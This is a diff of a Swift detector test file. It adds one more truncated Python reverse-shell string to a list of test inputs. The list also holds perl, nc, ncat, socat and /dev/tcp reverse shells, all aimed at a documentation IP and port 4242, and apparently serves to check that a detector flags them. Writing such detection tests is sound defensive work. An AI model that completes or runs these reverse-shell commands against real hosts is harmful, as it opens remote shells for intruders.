@@ -10,6 +10,7 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
   @Test(arguments: [
     "python -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100",
     "python3 -c 'import pty;import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100.9\", 42",
+    "python -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"198.51.100.9\",4242));os.du",
     "perl -e use Socket;$i=\"198.51.100.9\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyna",
     "nc 198.51.100.9 4242 -e /bin/ba", "ncat --ssl 198.51.100.9 4242 -e /bin", "ncat 198.51.100.9 4242 --exec=/bin/b",
     "nc 198.51.100.9 4242 | /bin/ba", "socat TCP:198.51.100.9:4242 EXEC:/bin", "sh >/dev/tcp/198.51.100.9/4242 <&1 2",
